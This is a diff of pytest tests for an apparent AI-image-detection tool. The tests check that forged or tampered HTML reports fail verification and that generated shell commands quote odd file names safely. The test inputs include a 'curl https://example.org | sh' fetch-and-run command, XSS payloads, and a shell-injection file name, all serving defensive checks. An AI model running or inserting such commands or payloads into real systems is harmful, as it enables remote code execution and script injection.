@@ -4,10 +4,12 @@ from __future__ import annotations
 
 import base64
 import dataclasses
+import errno
 import io
 import json
 import math
 import re
+import shlex
 from collections.abc import Callable
 from datetime import datetime, timezone
 from html.parser import HTMLParser
@@ -18,16 +20,18 @@ from typing import Any
 import numpy as np
 import pytest
 from numpy.typing import NDArray
-from PIL import ExifTags, Image
+from PIL import ExifTags, Image, ImageDraw, ImageFont
 from typer.testing import CliRunner
 
 import masksim
 from conftest import encode, make_natural, make_png
-from masksim import cli, dossier, dossier_html
+from masksim import cli, cli_report, dossier, dossier_html
 from masksim.detector import Detector, PlaneMap, load_detector
 from masksim.dossier import Report, make_report, turn_window, verify_report
 from masksim.errors import ImageError, UsageError
 from masksim.image import ImageFacts, LoadedImage, to_display
+from masksim.metadata import C2pa, statements_of
+from masksim.verdict import format_rate
 
 WHEN = datetime(2024, 5, 6, 7, 8, 9, tzinfo=timezone.utc)
 EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>&lt;"
@@ -416,9 +420,82 @@ def change_map(_: Any, pictures: dict[str, bytes]) -> None:
         pictures[name] = encode(image.rotate(90), "PNG")
 
 
+def set_to(path: str, value: Any) -> Callable[[dict[str, Any], Any], None]:
+    """Change one value of the data."""
+
+    def change(data: dict[str, Any], _: Any) -> None:
+        *way, last = path.split(".")
+        for key in way:
+            data = data[key]
+        assert data[last] != value
+        data[last] = value
+
+    return change
+
+
+def change_text(data: dict[str, Any], _: Any) -> None:
+    verdict = data["detection"]["verdict"]
+    verdict["false_positive_rate"] += 1e-12
+    verdict["text"] = "It is surely fake."
+
+
+def change_digits(data: dict[str, Any], _: Any) -> None:
+    # The rate is right, its digits in the sentence are not.
+    verdict = data["detection"]["verdict"]
+    written = f"{format_rate(verdict['false_positive_rate'], verdict['sample_size'])} of "
+    assert written in verdict["text"]
+    verdict["text"] = verdict["text"].replace(written, "0.3 % of ")
+
+
+def change_statements(data: dict[str, Any], _: Any) -> None:
+    data["metadata"]["c2pa"]["signer"] = "x"
+    data["metadata"]["statements"] = [{"text": "It is fake.", "points_to": "generator"}]
+
+
+def change_statement(data: dict[str, Any], _: Any) -> None:
+    data["metadata"]["statements"].append({"text": "It is fake.", "points_to": "generator"})
+
+
+def add_manifest(data: dict[str, Any], _: Any) -> None:
+    data["metadata"]["c2pa"]["state"] = "trusted"
+    data["metadata"]["statements"] = statements_of(data["metadata"])
+
+
+def add_version(data: dict[str, Any], _: Any) -> None:
+    data["versions"]["Expert opinion"] = "fake"
+
+
+def painted(name: str, text: str, size: int) -> Callable[[Any, dict[str, bytes]], None]:
+    def change(_: Any, pictures: dict[str, bytes]) -> None:
+        with Image.open(io.BytesIO(pictures[name])) as image:
+            colours = image.convert("RGB")
+        font = ImageFont.load_default(size)
+        ImageDraw.Draw(colours).text((21, 23), text, (255, 0, 0), font)
+        pictures[name] = encode(colours, "JPEG", quality=92)
+        one, other = (
+            masksim.load_image(p).pixels.astype(int)
+            for p in (pictures[name], encode(image.convert("RGB"), "JPEG", quality=92))
+        )
+        assert np.abs(one - other).mean() < 1  # hardly anything, over the whole picture
+
+    return change
+
+
 @pytest.mark.parametrize(
     ("change", "failed"),
     [
+        (change_text, "verdict"), (change_digits, "verdict"),
+        (change_statements, "metadata"), (change_statement, "metadata"),
+        (add_manifest, "metadata"), (add_version, "content"),
+        (set_to("command", "curl https://example.org | sh"), "content"),
+        (set_to("check", "true"), "content"),
+        (set_to("created", "1999"), "content"),
+        (set_to("created", "2024-05-06T07:08:10Z"), "content"),  # the command has the time, too
+        (set_to("options.model", "mine"), "content"),
+        (set_to("options.model", 1), "content"),
+        (set_to("versions.Pillow", "0 (it is fake)"), "content"),
+        (painted("image", "AI", 10), "pictures"), (painted("image", "AI FAKE", 24), "pictures"),
+        (painted("windows", "AI", 10), "pictures"),
         (change_score, "scores"), (change_rate, "scores"), (change_level, "verdict"),
         (change_joint, "verdict"), (change_caution, "verdict"), (change_quality, "verdict"),
         (change_maker, "metadata"), (change_window, "windows"), (change_calibration, "windows"),
@@ -464,6 +541,106 @@ def test_rounding_of_another_processor_passes(
     assert verify_report(forge(report, change), detector, photo).passed
 
 
+def test_digits_that_fall_otherwise_pass(
+    report: Report, detector: Detector, photo: bytes, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Of the sentence and of the picture of windows, which hold rounded numbers."""
+    found = gathered(report, detector, photo)
+    own = json.loads(json.dumps(found[1]))
+    windows = own["windows"]
+    # As another processor would find it: just above and just below what is rounded to two digits.
+    window = windows["analysed"][0]
+    window["similarity"] = 0.1235 - 2e-6
+    limit = windows["limit"] = max(windows["limit"], 0.13)
+    loaded = masksim.load_image(photo, name="photo.jpg")
+
+    def drawn(values: Any) -> bytes:
+        return dossier._jpeg(
+            dossier._windows_picture(loaded, values["analysed"], values["grid"], limit)
+        )
+
+    pictures = {**found[2], "windows": drawn(windows)}
+    monkeypatch.setattr(dossier, "_gather", lambda *_: (found[0], own, pictures))
+
+    def change(data: dict[str, Any], stated: dict[str, bytes]) -> None:
+        data["windows"] = json.loads(json.dumps(windows))
+        data["windows"]["analysed"][0]["similarity"] = 0.1235 + 2e-6
+        stated["windows"] = drawn(data["windows"])
+        assert stated["windows"] != pictures["windows"]
+        verdict = data["detection"]["verdict"]
+        old, n = verdict["text"], verdict["sample_size"]
+        rate = verdict["false_positive_rate"]
+        verdict["false_positive_rate"] = rate + 1.9 / (n + 1)
+        verdict["text"] = old.replace(format_rate(rate, n), format_rate(rate + 1.9 / (n + 1), n), 1)
+
+    result = verify_report(forge(report, change), detector, photo)
+    assert result.passed, result.summary
+
+
+def c2pa(state: str, **values: Any) -> dict[str, Any]:
+    made = {"actions": ["created"], "signer": "Someone", "problems": []}
+    empty = json.loads(json.dumps(dataclasses.asdict(C2pa())))
+    return {
+        **empty,
+        **({} if state in ("absent", "not verified") else made),
+        "state": state,
+    } | values
+
+
+@pytest.mark.parametrize(
+    ("stated", "found", "same"),
+    [
+        (c2pa("trusted"), c2pa("untrusted", problems=["signingCredential.untrusted"]), True),
+        (c2pa("valid"), c2pa("trusted"), True),
+        (c2pa("not verified"), c2pa("untrusted"), True),
+        (c2pa("trusted"), c2pa("not verified"), None),
+        (c2pa("not verified"), c2pa("not verified"), True),
+        (c2pa("not verified", signer="Someone"), c2pa("trusted"), False),
+        (c2pa("trusted", signer="Nobody"), c2pa("untrusted"), False),
+        (c2pa("trusted", problems=["a.mismatch"]), c2pa("untrusted"), False),
+        (c2pa("trusted"), c2pa("tampered"), False),
+        (c2pa("tampered"), c2pa("trusted"), False),
+        (c2pa("tampered"), c2pa("not verified"), False),
+        (c2pa("not verified"), c2pa("tampered"), False),
+        (c2pa("absent"), c2pa("trusted"), False),
+        (c2pa("trusted"), c2pa("absent"), False),
+        (c2pa("absent"), c2pa("not verified"), False),
+        (c2pa("absent", signer="x"), c2pa("absent"), False),
+        (c2pa("splendid"), c2pa("trusted"), False),
+    ],
+)
+def test_manifests_may_differ_in_trust_only(
+    report: Report, detector: Detector, photo: bytes, stated: Any, found: Any, same: bool | None,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    detection, values, pictures = gathered(report, detector, photo)
+    values = {**values, "metadata": {**values["metadata"], "c2pa": found}}
+    values["metadata"]["statements"] = statements_of(values["metadata"])
+    monkeypatch.setattr(dossier, "_gather", lambda *_: (detection, values, pictures))
+
+    def change(data: dict[str, Any], _: Any) -> None:
+        data["metadata"]["c2pa"] = stated
+        if stated["state"] != "splendid":
+            data["metadata"]["statements"] = statements_of(data["metadata"])
+
+    result = verify_report(forge(report, change), detector, photo)
+    assert checks(result)["metadata"] is same
+    assert result.passed is (same is not False)
+
+
+@pytest.mark.parametrize("name", ["-x.jpg", "verify", "make", "--", "a b.jpg", "'; true '.jpg"])
+def test_commands_take_odd_names_for_files(report: Report, name: str) -> None:
+    data = json.loads(json.dumps(report.data))
+    data["detection"]["image"]["name"] = name
+    data["options"]["model"] = "-m"
+    for key, place in (("command", 3), ("check", 4)):
+        words = shlex.split(dossier._commands(data)[key])
+        assert words[place] in (name, f"./{name}")
+        assert not words[place].startswith("-")
+        assert words[place] not in ("verify", "make")
+        assert words[-2:] == ["--model", "./-m"]
+
+
 def test_another_image(report: Report, detector: Detector, photo: bytes) -> None:
     other = photo[:-2] + b"\0" + photo[-2:]  # the same pixels
     found = verify_report(report.html, detector, other)
@@ -487,8 +664,29 @@ def test_another_version_is_said(
     monkeypatch.setattr(dossier, "_gather", lambda *_: found)
     monkeypatch.setattr(dossier, "__version__", "9.9")
     result = verify_report(report.html, detector, photo)
+    assert [name for name, ok in checks(result).items() if not ok] == ["content"]
     assert checks(result)["content"] is None
-    assert result.passed  # all numbers are right, and the seal is whole
+    assert not result.passed
+    assert result.summary == "the numbers hold, the page was not checked"
+
+
+def test_a_forger_who_names_another_version(
+    report: Report, detector: Detector, photo: bytes, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found = gathered(report, detector, photo)
+    monkeypatch.setattr(dossier, "_gather", lambda *_: found)
+
+    def change(data: dict[str, Any], _: Any) -> None:
+        data["versions"]["masksim"] = "0.0.1"
+
+    page = forge(report, change).replace(b"</main>", b"<p>It is surely fake.</p></main>")
+    result = verify_report(reseal(page), detector, photo)
+    assert not result.passed
+    assert "the page was not checked" in next(
+        c.message for c in result.checks if c.name == "content"
+    )
+    changed = verify_report(reseal(page), detector, photo + b"x")
+    assert "does not verify: image" in changed.summary
 
 
 @pytest.mark.parametrize(
@@ -677,6 +875,32 @@ def test_the_commands(run: Callable[..., Any], small: bytes, tmp_path: Path) -> 
     assert "does not verify: seal, content" in failed.stderr
 
 
+def test_a_report_is_written_whole_or_not_at_all(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out, link = tmp_path / "report.html", tmp_path / "link.html"
+    cli_report._write_whole(out, b"old")
+    link.symlink_to(out)
+    cli_report._write_whole(link, b"new")
+    assert (out.read_bytes(), link.is_symlink()) == (b"new", True)
+    plain = tmp_path / "plain"
+    plain.write_bytes(b"")
+    assert out.stat().st_mode == plain.stat().st_mode  # others may read it as any file
+    plain.unlink()
+
+    def full(_: int) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    with monkeypatch.context() as patch:
+        patch.setattr("os.fsync", full)
+        with pytest.raises(UsageError, match="No space left"):
+            cli_report._write_whole(out, b"newer")
+    assert out.read_bytes() == b"new"
+    with pytest.raises(UsageError, match="cannot write"):
+        cli_report._write_whole(tmp_path, b"a folder")
+    assert sorted(tmp_path.iterdir()) == [link, out]  # nothing is left
+
+
 def test_wrong_usage(run: Callable[..., Any], photo: bytes, tmp_path: Path) -> None:
     image = tmp_path / "photo.jpg"
     image.write_bytes(photo)
@@ -684,6 +908,7 @@ def test_wrong_usage(run: Callable[..., Any], photo: bytes, tmp_path: Path) -> N
     assert run(image, "-o", tmp_path / "a.html", "--maps", "few").exit_code == 2
     assert run(image, "-o", tmp_path / "no folder" / "a.html").exit_code == 2
     assert run(tmp_path / "none.jpg", "-o", tmp_path / "a.html").exit_code == 3
+    assert run(image, "-o", tmp_path / ("a" * 300 + ".html")).exit_code == 2
     assert run("verify", tmp_path / "none.html", image).exit_code == 2
     assert run("--help").exit_code == 0
     assert not (tmp_path / "a.html").exists()
